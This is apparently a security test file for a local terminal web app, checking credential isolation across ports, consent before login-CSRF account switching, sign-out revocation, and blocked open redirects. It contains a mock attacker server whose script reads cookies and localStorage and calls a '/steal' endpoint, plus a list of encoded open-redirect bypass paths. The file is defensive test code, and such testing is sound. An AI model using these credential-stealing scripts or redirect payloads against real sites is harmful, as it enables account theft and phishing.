// The browser's credential stays in its origin: a page served on another
// port of 127.0.0.1 receives nothing, a link for someone else does not
// replace the sign-in without consent (login CSRF), Sign out revokes the
// credential and ends its viewers, a new tab is signed in, and no path
// makes the listener redirect off-site.
//
// Each test enters by the address of before (/?token=), which the server
// now sends on to /#token=, so that each one also fails against a server
// that answered it with a cookie.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { Server, launch, ready, tabs, typeLine, waitText, waitFor, newSession, sleep } from './harness.mjs';

let browser;
before(async () => {
  browser = await launch();
});
after(async () => {
  await browser?.close();
});

/**
 * evilServer is a plain HTTP server on another port of 127.0.0.1, as
 * another local user could run: it records every request's headers, and
 * serves a page whose script reads what it can and fetches its own origin.
 */
async function evilServer() {
  const seen = [];
  const srv = createServer((req, res) => {
    seen.push({ url: req.url, headers: req.headers });
    if (req.url === '/') {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(`<!doctype html><title>other</title><script>
        window.loot = { cookie: document.cookie, storage: JSON.stringify(localStorage) };
        window.done = fetch('/steal', { credentials: 'include' }).then(() => true, () => true);
      </script>`);
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/plain' });
    res.end('landed');
  });
  await new Promise((r) => srv.listen(0, '127.0.0.1', r));
  const port = srv.address().port;
  return { seen, port, url: `http://127.0.0.1:${port}`, close: () => new Promise((r) => srv.close(r)) };
}

function newPage(ctx) {
  return ctx.newPage().then((page) => {
    page.on('pageerror', (e) => console.error('page error:', e.message));
    return page;
  });
}

/** signInOld opens the address of before (/?token=) and waits for the page to be up. */
async function signInOld(ctx, s, tabsWanted = 0) {
  const page = await newPage(ctx);
  await page.goto(`${s.url}?token=${s.token}`);
  await ready(page, tabsWanted);
  return page;
}

const credential = (page) => page.evaluate(() => localStorage.getItem('termkeep.credential'));

test('a page on another port of 127.0.0.1 gets no credential', async () => {
  const s = await Server.start();
  const evil = await evilServer();
  const ctx = await browser.newContext();
  try {
    await newSession(s, 'work');
    // The cookie a server of before left: the first answer expires it.
    await ctx.addCookies([{ name: 'termkeep_token', value: s.token, url: s.url, httpOnly: true, sameSite: 'Strict' }]);
    const page = await signInOld(ctx, s, 1);
    assert.ok(!page.url().includes(s.token), `the token stayed in the address: ${page.url()}`);

    const other = await newPage(ctx);
    await other.goto(evil.url + '/');
    await other.waitForFunction(() => window.done);
    await other.evaluate(() => window.done);
    const loot = await other.evaluate(() => window.loot);
    assert.equal(loot.cookie, '');
    assert.equal(loot.storage, '{}');
    const steal = evil.seen.find((r) => r.url === '/steal');
    assert.ok(steal, 'the other page did not reach its own server');
    for (const r of evil.seen) {
      assert.equal(r.headers.cookie, undefined, `the browser sent ${r.url} a cookie: ${r.headers.cookie}`);
      assert.equal(r.headers.authorization, undefined);
    }
    assert.deepEqual((await ctx.cookies()).map((c) => c.name), [], 'the browser holds a cookie for termkeep');
    const cred = JSON.parse((await credential(page)) ?? 'null');
    assert.ok(cred?.credential?.startsWith('tkb_'), 'the page holds no credential of its own');
    for (const r of evil.seen) {
      for (const v of Object.values(r.headers)) assert.ok(!String(v).includes(s.token) && !String(v).includes(cred.credential));
    }
    // Whatever the other server received opens nothing.
    const replay = await fetch(`${s.url}api/sessions`, { headers: { ...(steal.headers.cookie ? { cookie: steal.headers.cookie } : {}) } });
    assert.equal(replay.status, 401);
  } finally {
    await ctx.close();
    await evil.close();
    await s.stop();
  }
});

test('a link for someone else does not replace the sign-in without consent', async () => {
  const s = await Server.start();
  const evil = await evilServer();
  const ctx = await browser.newContext();
  try {
    await newSession(s, 'owners');
    await s.cli('user', 'add', 'mallory');
    const other = JSON.parse(await s.cli('token', 'create', '--user', 'mallory', '--json'));
    const page = await signInOld(ctx, s, 1);
    const mine = await credential(page);

    // A page of another site sends this browser to the other user's link.
    const attack = async () => {
      await page.goto(evil.url + '/');
      await page.evaluate((to) => (location.href = to), `${s.url}?token=${other.secret}`);
      await page.waitForSelector('#dialog[open]', { timeout: 20000 });
      const text = await page.textContent('#dialog-text');
      assert.match(text, /mallory/);
      assert.match(text, /\(the owner\)/);
      assert.ok(!page.url().includes(other.secret), `the link's token stayed in the address: ${page.url()}`);
    };
    await attack();
    assert.equal(await page.textContent('#dialog-cancel'), 'Keep current');
    // The question is the attacker's to cause: Enter must keep, not switch.
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'dialog-cancel', 'the switch question has its focus on Switch');
    await page.keyboard.press('Enter');
    await ready(page, 1);
    assert.equal(await credential(page), mine, 'keeping the sign-in replaced it');
    assert.deepEqual((await tabs(page)).map((t) => t.label), ['owners']);

    // With consent it switches, and the old credential is revoked.
    await attack();
    await page.click('#dialog-ok');
    await waitFor(async () => (await credential(page)) !== mine, { what: 'the switch' });
    await ready(page, 0);
    assert.deepEqual(await tabs(page), [], 'mallory sees the owner\'s sessions');
    const old = JSON.parse(mine).credential;
    assert.equal((await fetch(`${s.url}api/me`, { headers: { Authorization: `Bearer ${old}` } })).status, 401);
  } finally {
    await ctx.close();
    await evil.close();
    await s.stop();
  }
});

test('sign out revokes the credential and ends its viewers; a new tab is signed in', async () => {
  const s = await Server.start();
  const ctx = await browser.newContext({ viewport: { width: 1000, height: 600 } });
  try {
    const made = await newSession(s, 'work', { command: ['/bin/bash', '--norc', '--noprofile'] });
    const page = await signInOld(ctx, s, 1);
    await page.click('.term-host:not([hidden])');
    await typeLine(page, 'echo typed-$((40+2))');
    await waitText(page, /^typed-42$/);

    // A new tab of the same origin: signed in by the stored credential.
    const second = await newPage(ctx);
    await second.goto(s.url);
    await ready(second, 1);
    await waitFor(async () => (await s.api('GET', `/api/sessions/${made.id}`)).viewers === 2, { what: 'two viewers' });

    // The list shows this browser; Sign out revokes it.
    const cred = JSON.parse(await credential(page));
    await page.click('#btn-account');
    await page.waitForSelector(`#browsers-list li[data-id="${cred.id}"]`);
    assert.match(await page.textContent(`#browsers-list li[data-id="${cred.id}"]`), /This browser/);
    await page.click('#sign-out');
    await page.waitForSelector('#fatal:not([hidden])');
    assert.match(await page.textContent('#fatal-title'), /Signed out/);
    assert.equal(await credential(page), null);
    assert.equal((await fetch(`${s.url}api/me`, { headers: { Authorization: `Bearer ${cred.credential}` } })).status, 401);
    // Both tabs' viewers end: the other tab's connection is cut by the server.
    await waitFor(async () => (await s.api('GET', `/api/sessions/${made.id}`)).viewers === 0, { what: 'the viewers to end', timeout: 20000 });
    await second.waitForSelector('#fatal:not([hidden])', { timeout: 20000 });
    // This page's viewers were cut too; its notice is still its own.
    assert.equal(await page.textContent('#fatal-title'), 'Signed out');
    assert.equal((await s.api('GET', `/api/sessions/${made.id}`)).state, 'running');

    // Revoked from the CLI instead: the open page ends the same way.
    const again = await signInOld(ctx, s, 1);
    const id = JSON.parse(await credential(again)).id;
    await waitFor(async () => (await s.api('GET', `/api/sessions/${made.id}`)).viewers === 1, { what: 'the viewer' });
    assert.match(await s.cli('token', 'ls', '--browsers'), new RegExp(id));
    await s.cli('token', 'revoke', id);
    await again.waitForSelector('#fatal:not([hidden])', { timeout: 20000 });
    assert.match(await again.textContent('#fatal-title'), /signed out/i);
    await waitFor(async () => (await s.api('GET', `/api/sessions/${made.id}`)).viewers === 0, { what: 'the viewer to end' });

    // A fresh browser without a link is asked to sign in.
    const fresh = await browser.newContext();
    const p = await newPage(fresh);
    await p.goto(s.url);
    await p.waitForSelector('#fatal:not([hidden])');
    assert.match(await p.textContent('#fatal-text'), /termkeep url/);
    await fresh.close();
  } finally {
    await ctx.close();
    await s.stop();
  }
});

test('the list of signed-in browsers revokes another one, which is signed out at once', async () => {
  const s = await Server.start();
  const ctxA = await browser.newContext({ viewport: { width: 1000, height: 600 } });
  const ctxB = await browser.newContext({ viewport: { width: 1000, height: 600 } });
  try {
    const made = await newSession(s, 'work');
    const a = await signInOld(ctxA, s, 1);
    const b = await signInOld(ctxB, s, 1);
    const idB = JSON.parse(await credential(b)).id;
    await waitFor(async () => (await s.api('GET', `/api/sessions/${made.id}`)).viewers === 2, { what: 'two viewers' });
    await a.click('#btn-account');
    const row = `#browsers-list li[data-id="${idB}"]`;
    await a.waitForSelector(row);
    assert.doesNotMatch(await a.textContent(row), /This browser/);
    await a.click(`${row} button`);
    await a.waitForSelector(row, { state: 'detached' });
    await b.waitForSelector('#fatal:not([hidden])', { timeout: 20000 });
    await waitFor(async () => (await s.api('GET', `/api/sessions/${made.id}`)).viewers === 1, { what: 'B\'s viewer to end' });
    // A is still signed in and live.
    await a.keyboard.press('Escape');
    assert.equal((await tabs(a))[0].state, 'live');
    const events = await s.cli('events', '--json');
    assert.match(events, /browser\.revoked/);
    assert.ok(!events.includes(JSON.parse(await credential(a)).credential));
  } finally {
    await ctxA.close();
    await ctxB.close();
    await s.stop();
  }
});

test('no path makes the listener redirect off-site', async () => {
  const s = await Server.start();
  const evil = await evilServer();
  const ctx = await browser.newContext();
  try {
    const base = s.url.replace(/\/$/, '');
    const host = `127.0.0.1:${evil.port}`;
    for (const path of [`/%09/${host}/landed`, `//${host}/landed`, `/%5C${host}/landed`, `/%2F%2F${host}/landed`, `/%0A/${host}/landed`]) {
      const page = await newPage(ctx);
      await page.goto(`${base}${path}?token=${s.token}`).catch(() => {});
      await sleep(300);
      const u = new URL(page.url());
      assert.notEqual(u.host, host, `${path} landed on ${page.url()}`);
      await page.close();
    }
    assert.deepEqual(evil.seen.map((r) => r.url), [], 'the other server was reached');
  } finally {
    await ctx.close();
    await evil.close();
    await s.stop();
  }
});
